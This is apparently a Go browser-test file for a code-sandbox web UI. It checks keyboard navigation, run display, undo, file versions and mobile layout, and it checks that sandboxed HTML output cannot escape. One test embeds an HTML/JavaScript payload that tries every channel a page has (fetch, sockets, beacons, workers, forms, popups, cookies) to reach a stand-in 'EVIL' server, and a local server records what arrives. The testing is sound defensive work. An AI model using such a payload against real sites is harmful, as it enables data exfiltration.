package webui

import (
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/broker/netlog"
	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/browser"
	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/must"
	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/should"
	"github.com/code-sandbox-mcp/code-sandbox-mcp/sandbox"
	"github.com/code-sandbox-mcp/code-sandbox-mcp/sandbox/runs"
)

// A person with a keyboard alone, and a session that attacks the page.
func TestThePageInChromium(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{})
	s.finish(s.manager, "mine", hostile)
	s.finish(s.manager, "other", "1")
	_, _, err := s.manager.Upload(t.Context(), sandbox.Upload{SessionID: "mine", Path: "input/given.csv", Content: strings.NewReader("")})
	must.Hold(t, err == nil, "%v", err)
	s.network.Add(netlog.Entry{Time: time.Now(), Session: "mine", Kind: "proxy", Host: markup, Rule: markup})
	run := s.begin(s.manager, "mine", "import time\nprint('<b>so</b> ' + 'far', flush=True)\ntime.sleep(600)")

	p.Call("Page.navigate", map[string]any{"url": s.url + s.Link()}, nil)
	p.Await("document.querySelectorAll('nav li').length === 2")
	p.TabTo("e.dataset.session === 'mine'")
	p.Press("Enter")
	item := "document.querySelector('#run-" + run.ID + "')"
	p.Await(item + "?.innerText.includes('<b>so</b> far')")
	p.Await("document.querySelectorAll('#runs > li').length === 2")

	// The older run: its figure is drawn, and nothing of it is markup, nor hides what it is.
	p.TabTo("e.matches('#runs > li:last-child summary')")
	p.Press("Enter")
	p.Await("document.querySelector('#runs figure img')?.naturalWidth === 9")
	p.Await("document.querySelector('#runs > li:last-child').innerText.includes('onerror')")
	p.TabTo("e.matches('#files summary')")
	p.Press("Enter")
	p.Await("document.querySelectorAll('#file-rows tr').length >= 4 && [...document.querySelectorAll('#file-rows a')].some(a => a.textContent === 'input/given.csv')")
	p.Await(`[...document.querySelectorAll('#file-rows a')].some(a => a.textContent === 'a\ufffdtxt.exe')`)
	p.See("document.querySelector('#files').open = false") // or it asks for the list again when the run ends, while the session is closed
	p.TabTo("e.matches('#network summary')")
	p.Press("Enter")
	p.Await("document.querySelector('#network-rows td')")
	should.Equal(t, p.See(`/[\x1b\u202e]/.test(document.body.textContent)`), false, "characters that hide what they are came to the page")
	should.Equal(t, p.See("document.querySelectorAll('main script, main b, main [onerror], main img:not(figure img, .thumbnail)').length"), 0.0, "elements are of the sandbox")
	should.Equal(t, p.See("window.hacked"), nil, "the sandbox has run a script on the page")
	should.Equal(t, p.See("document.cookie"), "", "scripts see the cookie")
	grounds := make(map[any]bool)
	for _, scheme := range []string{"light", "dark"} {
		p.Scheme(scheme)
		grounds[p.See("getComputedStyle(document.body).backgroundColor")] = true
	}
	should.Equal(t, len(grounds), 2, "light and dark are the same: %v", grounds)

	// Back to the run that goes on, to cancel it, and then to close the session: not at the first question.
	p.See("document.activeElement.blur()")
	p.TabTo("e.textContent === 'Cancel the run'")
	p.Press("Enter")
	p.Await(item + ".innerText.includes('cancelled')")
	p.TabTo("e.id === 'close'")
	p.Press("Enter")
	p.Await("document.querySelector('#closing').open")
	p.Press("Escape")
	p.Await("!document.querySelector('#closing').open")
	must.Hold(t, s.isOpen("mine"), "the session was closed")
	p.Press("Enter")
	p.Await("document.querySelector('#closing').open && document.activeElement.value === ''")
	should.Len(t, p.Said(), 0, "the console has") // later it may say that what is removed was asked for
	p.TabTo("e.value === 'remove'")
	p.Press("Enter")
	p.Await("document.querySelectorAll('nav li').length === 1 && document.querySelector('#session').hidden")
	should.Hold(t, !s.isOpen("mine"), "the session is not closed")

	if p.See("fetch('http://127.0.0.1:1/').then(() => 'loaded', () => 'refused')") != "refused" ||
		p.See("(() => { try { document.body.innerHTML = '<i>'; return 'made' } catch { return 'refused' } })()") != "refused" {
		t.Error("the policy lets a script load from elsewhere, or make markup")
	}
	for _, address := range p.Loaded() {
		should.Hold(t, strings.HasPrefix(address, s.url+"/") || address == "http://127.0.0.1:1/", "it has loaded %s", address)
	}
	for _, text := range p.Said() {
		if !strings.Contains(text, "404") && !strings.Contains(text, "127.0.0.1:1/") && !strings.Contains(text, "TrustedHTML") {
			t.Errorf("the console has %s", text)
		}
	}
}

// A person who looks on while code runs, finds a run again and takes its code along, on a screen and on a phone.
func TestThePageFollowsWhatRuns(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{NoAuth: true})
	s.finish(s.manager, "older", "1")
	const fails = "import os\n# Divide\nx = 1 / len('')"
	s.finish(s.manager, "mine", fails)
	p.Call("Page.navigate", map[string]any{"url": s.url}, nil)
	p.Await("location.hash === '#/mine' && document.querySelector('#runs pre.code')?.textContent === " + fmt.Sprintf("%q", fails))
	for _, part := range []string{"keyword:import", "comment:# Divide", "number:1", "string:''"} {
		kind, text, _ := strings.Cut(part, ":")
		p.Await(fmt.Sprintf("[...document.querySelectorAll('.code .%s')].some(e => e.textContent === %q)", kind, text))
	}
	p.Await("document.querySelector('#runs summary').innerText.includes('Divide')")

	// What begins is open, and its end is in sight until somebody scrolls back, which they can.
	run := s.begin(s.manager, "mine", "import os, time\nfor i in range(10_000):\n    while i >= 200 and not os.path.exists('go'): time.sleep(.01)\n    print('step', i, flush=True)\n    time.sleep(.001)")
	output := "document.querySelector('#run-" + run.ID + " section pre')"
	p.Await(output + "?.textContent.includes('step 199') && " + output + ".scrollTop > 0 && " + output + ".scrollHeight - " + output + ".scrollTop - " + output + ".clientHeight < 10")
	p.See(output + ".scrollTop = 30")
	p.See("window.before = " + output)
	_, _, err := s.manager.Upload(t.Context(), sandbox.Upload{SessionID: "mine", Path: "go", Content: strings.NewReader("")})
	must.Hold(t, err == nil, "%v", err)
	p.Await(output + ".textContent.includes('step 300')")
	should.Equal(t, p.See(output+" === window.before && "+output+".scrollTop === 30"), true, "what was read has moved")
	run.Interrupt()
	p.Await("document.querySelector('#run-" + run.ID + " summary strong.dim')?.textContent === 'cancelled' && document.querySelectorAll('#runs .bad').length > 0")

	for _, filter := range []string{"document.querySelector('#failed').click()", "(e => { e.value = 'DIVIDE'; e.dispatchEvent(new Event('input')) })(document.querySelector('#search'))"} {
		p.Await("[...document.querySelectorAll('#runs > li')].every(e => !e.hidden)")
		p.See(filter)
		p.Await("[...document.querySelectorAll('#runs > li')].filter(e => !e.hidden).map(e => e.innerText).join().includes('Divide') && document.querySelector('#runs-note').textContent === '1 of 2 are shown.'")
		p.See("document.querySelector('#failed').checked && document.querySelector('#failed').click()")
	}
	p.Call("Browser.grantPermissions", map[string]any{"origin": s.url, "permissions": []string{"clipboardReadWrite", "clipboardSanitizedWrite"}}, nil)
	p.See("document.querySelector('#runs > li:last-child details').open = true")
	p.Await("document.querySelector('#runs > li:last-child .copy')")
	p.See("document.querySelector('#runs > li:last-child .copy').click()")
	p.Await("document.querySelector('#runs > li:last-child .copy').textContent === 'Copied'")
	should.Equal(t, p.See("navigator.clipboard.readText()"), fails, "copied")

	p.Call("Emulation.setDeviceMetricsOverride", map[string]any{"width": 390, "height": 844, "deviceScaleFactor": 2, "mobile": true}, nil)
	visible := func(what string) bool {
		return p.See("document.querySelector('"+what+"').offsetParent !== null") == true
	}
	should.Hold(t, !visible("nav") && visible("#session") && p.See("document.documentElement.scrollWidth") == 390.0,
		"on a phone a session shares the screen, or does not fit")
	small := p.See("[...document.querySelectorAll('#session button, #runs .copy')].filter(e => e.offsetParent && (e.offsetHeight < 44 || e.offsetWidth < 44)).map(e => e.innerText).join()")
	should.Hold(t, small == "", "on a phone these are small: %v", small)
	p.See("document.querySelector('.back a').click()")
	p.Await("document.querySelector('nav').offsetParent !== null")
	should.Hold(t, !visible("main"), "on a phone the list shares the screen")
	p.See("location.hash = '#/%zz'")
	p.Await("document.querySelector('#none').innerText === 'There is no session %zz now.'")
	should.Len(t, p.Said(), 0, "the console has")
}

// The token in the form, in a browser.
func TestTheFormInChromium(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{Token: token})
	p.Call("Page.navigate", map[string]any{"url": s.url}, nil)
	for _, given := range []string{"not-the-token-at-all", token} {
		p.Await("document.activeElement?.id === 'token' && document.activeElement.value === ''")
		p.Call("Input.insertText", map[string]any{"text": given}, nil)
		p.Press("Enter")
		if given != token {
			p.Await("document.querySelector('[role=alert]')")
		}
	}
	p.Await("document.querySelector('#state')?.textContent === 'live'")
	p.TabTo("e.textContent === 'Sign out'")
	p.Press("Enter")
	p.Await("document.querySelector('#token')")
}

func TestThePageUndoesARun(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{NoAuth: true})
	canGoBack := func() (run string) {
		for _, info := range s.manager.Known() {
			for _, k := range info.Kernels {
				for _, before := range k.Before {
					run = before.RunID
				}
			}
		}
		return run
	}
	for began := time.Now(); canGoBack() == ""; time.Sleep(100 * time.Millisecond) { // in which the kernel makes a copy
		s.finish(s.manager, "mine", "x, y = 1, 2\n_ = open('<b>f.txt', 'w').write(f'{x}')")
		must.Hold(t, time.Since(began) <= time.Minute, "no run can be undone")
	}
	run := canGoBack()
	p.Call("Page.navigate", map[string]any{"url": s.url + "/#/mine"}, nil)
	item := "document.querySelector('#run-" + run + "')"
	p.Await(item)
	p.See(item + ".querySelector('details').open = true")
	undo := "[..." + item + ".querySelectorAll('button')].find(e => e.textContent === 'Undo to here …')"
	for _, answer := range []string{"", "undo"} {
		p.Await(undo)
		p.See(undo + ".click()")
		p.Await("document.querySelector('#undoing').open && document.activeElement.value === ''")
		said := p.See("document.querySelector('#undoing').innerText").(string)
		for _, part := range []string{"<b>f.txt is removed", "Variables of python", ": x, y"} {
			should.Hold(t, strings.Contains(said, part), "the question lacks %q: %s", part, said)
		}
		should.Hold(t, !runs.Marks(s.config.StateDir, "mine").Now().Variables[run], "it was undone without an answer")
		p.TabTo("e.value === '" + answer + "'")
		p.Press("Enter")
		p.Await("!document.querySelector('#undoing').open")
	}
	p.Await(item + ".matches('.undone') && " + item + ".querySelector('summary').innerText.includes('undone')")
	should.Hold(t, runs.Marks(s.config.StateDir, "mine").Now().Variables[run], "the run is not undone")
	should.Equal(t, p.See("document.querySelector('#wrong').textContent"), "", "the page says")
}

// A person sees what a run did to files, and how a text was before.
func TestThePageShowsVersions(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{NoAuth: true})
	var run *sandbox.Run
	for began := time.Now(); ; { // a run that begins at once leaves no time for a copy
		s.finish(s.manager, "mine", `_ = open('f.txt', 'w').write('same\none\nend\n')`)
		run = s.finish(s.manager, "mine", `_ = open('f.txt', 'w').write('same\n<b>two</b>\nend\n')`)
		versions, err := s.manager.Versions(t.Context(), "mine", "f.txt")
		if err == nil && len(versions) > 0 && versions[0].Why == "" && versions[0].Before == run.ID {
			break
		}
		must.Hold(t, time.Since(began) <= time.Minute, "there is no version: %+v, %v", versions, err)
	}
	p.Call("Page.navigate", map[string]any{"url": s.url + "/#/mine"}, nil)
	item := "document.querySelector('#run-" + run.ID + "')"
	p.Await(item)
	p.See(item + ".querySelector('details').open = true")
	named := "[..." + item + ".querySelectorAll('li button')].find(e => e.ariaLabel === 'Versions of f.txt')"
	p.Await(item + ".innerText.includes('0 added, 1 changed, 0 removed') && " + named)
	p.See(named + ".click()")
	p.Await("document.querySelector('#version-rows a[href$=\"/f.txt%40" + run.ID + "\"]')")
	p.See("document.querySelector('#version-rows button').click()")
	p.Await("document.querySelector('#difference').textContent === '  same\\n- one\\n+ <b>two</b>\\n  end\\n  \\n'")
	should.Equal(t, p.See("document.querySelector('#versions-wrong').textContent"), "", "the page says")
}

// A person finds a file among many, puts one in, and takes all along; and finds an older run, and a copy.
func TestThePageHasAllFilesAndRuns(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{NoAuth: true})
	s.finish(s.manager, "mine", "import os\nos.makedirs('Deep/er')\nfor i in range(300): open(f'Deep/er/[x]-{i}.csv', 'w').write('x')\nv = 1")
	folder := s.config.StateDir
	must.OK(t, os.WriteFile(filepath.Join(folder, "up ä%.txt"), []byte("as it is"), 0o600))
	for range 100 {
		s.finish(s.manager, "mine", "1")
	}
	copied := must.Get(s.manager.Run(sandbox.RunOptions{SessionID: "mine", Language: sandbox.Python, Code: "v = 2", Copy: true}))(t)
	<-copied.Done()
	p.Call("Page.navigate", map[string]any{"url": s.url + "/#/mine"}, nil)
	p.Await("document.querySelectorAll('#runs > li').length === 100")
	p.See("document.querySelector('#older').click()")
	p.Await("document.querySelectorAll('#runs > li').length === 102 && document.querySelector('#older').hidden")
	p.See("document.querySelector('#files').open = true")
	rows := "[...document.querySelectorAll('#file-rows a')].map(e => e.textContent)"
	p.Await(rows + ".length === 200")
	search := func(words string, found string) {
		p.See(fmt.Sprintf("(e => { e.value = %q; e.dispatchEvent(new Event('input')) })(document.querySelector('#file-search'))", words))
		p.Await(rows + ".join() === '" + found + "'")
	}
	search("EEP/er/[X]-7.", "Deep/er/[x]-7.csv")
	search("[*", "")
	var document struct{ Root struct{ NodeID int } }
	var chooser struct{ NodeID int }
	p.Call("DOM.getDocument", nil, &document)
	p.Call("DOM.querySelector", map[string]any{"nodeId": document.Root.NodeID, "selector": "#uploads"}, &chooser)
	p.See("window.confirm = () => true")
	for range 2 { // the second replaces it
		p.Call("DOM.setFileInputFiles", map[string]any{"nodeId": chooser.NodeID, "files": []string{filepath.Join(folder, "up ä%.txt")}}, nil)
		search("UP Ä%", "input/up ä%.txt")
	}
	should.Equal(t, p.See("document.querySelector('#wrong').textContent"), "", "the page says")
	should.Equal(t, p.See("fetch(document.querySelector('#archive').href).then(a => a.headers.get('Content-Disposition'))"), "attachment; filename=mine.tar.gz", "the archive")
	// The variables of the copy.
	item := "document.querySelector('#run-" + copied.ID + "')"
	p.See(item + ".querySelector('details').open = true")
	goOn := "[..." + item + ".querySelectorAll('button')].find(e => e.textContent === 'Go on with its copy …')"
	p.Await(goOn)
	p.See(goOn + ".click()")
	p.See("document.querySelector('#undoing .danger').click()")
	p.Await("document.querySelector('#done').textContent.includes('Variables of python have gone back')")
	should.Equal(t, *must.Get(s.finish(s.manager, "mine", "v").Result())(t).Value, "2", "the variable is")
}

// attack tries all ways that a page has to reach a server, or what is around it, and says what it has come to. EVIL is the server.
const attack = `<!DOCTYPE html>
<link rel=prefetch href="EVIL/prefetch"><link rel=preload as=image href="EVIL/preload"><link rel=stylesheet href="EVIL/stylesheet">
<link rel=icon href="EVIL/icon"><link rel=manifest href="EVIL/manifest">
<base href="EVIL/base/">
<style>@import url("EVIL/import"); body { background: url("EVIL/background") } @font-face { font-family: f; src: url("EVIL/font") } p { font-family: f }</style>
<script src="EVIL/script"></script><script src="relative"></script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"]}]}</script>
<p>text<img src="EVIL/img"><iframe src="EVIL/iframe"></iframe><iframe srcdoc='<img src="EVIL/srcdoc">'></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video"></video>
<form id=form action="EVIL/form" target=other><input name=a></form><a id=link target=_blank href="EVIL/link" ping="EVIL/ping">x</a>
<canvas></canvas>
<script>
const said = {};
const ways = {
	fetch: () => fetch("EVIL/fetch", {mode: "no-cors"}),
	xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open("GET", "EVIL/xhr"); x.send(); }),
	socket: () => new Promise((done, fail) => { const s = new WebSocket("EVIL/socket".replace("http", "ws")); s.onopen = done; s.onerror = fail; }),
	events: () => new Promise((done, fail) => { const s = new EventSource("EVIL/events"); s.onopen = done; s.onerror = () => { s.close(); fail(); }; }),
	beacon: () => { navigator.sendBeacon("EVIL/beacon", "x"); throw 0; }, // what it returns tells nothing
	image: () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = "EVIL/image"; }),
	module: () => import("EVIL/module"),
	worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))"])));
		w.onmessage = m => m.data ? done() : fail(); w.onerror = fail; }),
	own: () => fetch(OWN, {mode: "no-cors", credentials: "include"}),
	cookie: () => document.cookie + "x",
	storage: () => localStorage.length,
	parent: () => parent === window ? Promise.reject() : parent.document.title,
	service: () => navigator.serviceWorker.register(location.href),
	popup: () => open("EVIL/popup") ? "open" : Promise.reject(),
	form: () => { document.querySelector("#form").submit(); return Promise.reject(); },
	click: () => { document.querySelector("#link").click(); return Promise.reject(); },
	top: () => { if (top === window) throw 0; top.location = "EVIL/top"; },
	drawn: () => { const c = document.querySelector("canvas").getContext("2d"); c.fillRect(0, 0, 1, 1); return eval("c.getImageData(0, 0, 1, 1).data[3]") === 255 || Promise.reject(); },
};
Promise.all(Object.entries(ways).map(async ([name, way]) => {
	try { await way(); said[name] = true; } catch { said[name] = false; }
})).then(() => {
	parent.postMessage({said, origin: self.origin}, "*");
	location = "EVIL/self?" + document.title;
});
</script>`

// refreshing leaves by itself.
const refreshing = `<!DOCTYPE html><meta http-equiv="refresh" content="0; url=EVIL/refresh"><p>text`

// watching notes what comes from frames, and where they were not let to.
const watching = `window.told = []; addEventListener("message", m => told.push(m.data));
window.stopped = []; document.addEventListener("securitypolicyviolation", v => stopped.push(v.effectiveDirective));`

// evil is a server that notes what reaches it.
type evil struct {
	*httptest.Server
	mu   sync.Mutex
	seen map[string]bool
}

func newEvil(t *testing.T) *evil {
	e := &evil{seen: make(map[string]bool)}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.seen[strings.TrimPrefix(r.URL.Path, "/")] = true
		e.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if r.URL.Path == "/attack" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprint(w, e.arm(attack))
		}
	}))
	t.Cleanup(e.Close)
	return e
}

// arm makes an attack one on this server.
func (e *evil) arm(page string) string {
	return strings.NewReplacer("EVIL", e.URL, "OWN", `"/ui/v1/sessions/mine/files"`).Replace(page)
}

func (e *evil) reached() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Sorted(maps.Keys(e.seen))
}

func TestPagesOfASessionInChromium(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{NoAuth: true})
	e := newEvil(t)
	p.Call("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": watching}, nil)

	// What the attack does where nothing holds it.
	p.Call("Page.navigate", map[string]any{"url": e.URL + "/attack"}, nil)
	p.Await("location.pathname === '/self'")
	free := e.reached()
	for _, way := range []string{"stylesheet", "import", "background", "font", "script", "base/relative", "img", "srcdoc", "fetch", "xhr", "socket", "events", "beacon", "module", "worker"} {
		should.Hold(t, slices.Contains(free, way), "the attack does not try %s: %v", way, free)
	}
	e.Close()
	e = newEvil(t)

	for name, page := range map[string]string{"attack.html": attack, "refresh.html": refreshing} {
		put := sandbox.Upload{SessionID: "mine", Path: "input/" + name, Content: strings.NewReader(e.arm(page))}
		_, _, err := s.manager.Upload(t.Context(), put)
		must.Hold(t, err == nil, "%v", err)
	}
	s.finish(s.manager, "mine", "import shutil\nfor name in ('attack.html', 'refresh.html'): shutil.copy('input/' + name, 'output')")
	const over = "told.length === 1 && stopped.filter(d => d === 'frame-src').length === %d"
	expect := func(where string) {
		t.Helper()
		for name, done := range p.See("told[0].said").(map[string]any) {
			should.Hold(t, done == (name == "drawn"), "%s: %s is %v", where, name, done)
		}
		should.Equal(t, p.See("told[0].origin"), "null", "%s: it is of the origin", where)
		reached := e.reached()
		should.Hold(t, len(reached) == 0, "%s: it has reached %v", where, reached)
	}
	p.Call("Page.navigate", map[string]any{"url": s.url}, nil)
	p.Await("document.querySelectorAll('#runs iframe').length === 2")
	p.See("document.querySelectorAll('#runs iframe').forEach(f => { f.loading = 'eager'; })")
	p.Await(fmt.Sprintf(over, 2))
	expect("on the page")

	for file, stops := range map[string]string{"attack.html": fmt.Sprintf(over, 1), "refresh.html": "stopped.includes('frame-src')"} {
		p.Call("Page.navigate", map[string]any{"url": s.url + "/ui/v1/sessions/mine/files/output/" + file}, nil)
		p.Await("document.title === '" + file + "' && " + stops)
		if file == "attack.html" {
			expect("by itself")
		}
	}
	reached := e.reached()
	should.Hold(t, len(reached) == 0, "by itself: it has reached %v", reached)
}

// A page has its place once, where it was shown.
func TestAFigureWithAPageIsOneFrame(t *testing.T) {
	p := browser.Open(t)
	s := serve(t, Options{NoAuth: true})
	s.finish(s.manager, "mine", `import base64
class Chart:
    def _repr_mimebundle_(self, **_): return {"image/png": base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="), "application/vnd.code-sandbox.page": "<p>page"}
Chart()`)
	p.Call("Page.navigate", map[string]any{"url": s.url}, nil)
	p.Await("document.querySelector('#runs iframe')")
	should.Equal(t, p.See("document.querySelectorAll('#runs details iframe').length * 10 + document.querySelectorAll('#runs details figure img').length"), 10.0, "frames and stills")
}
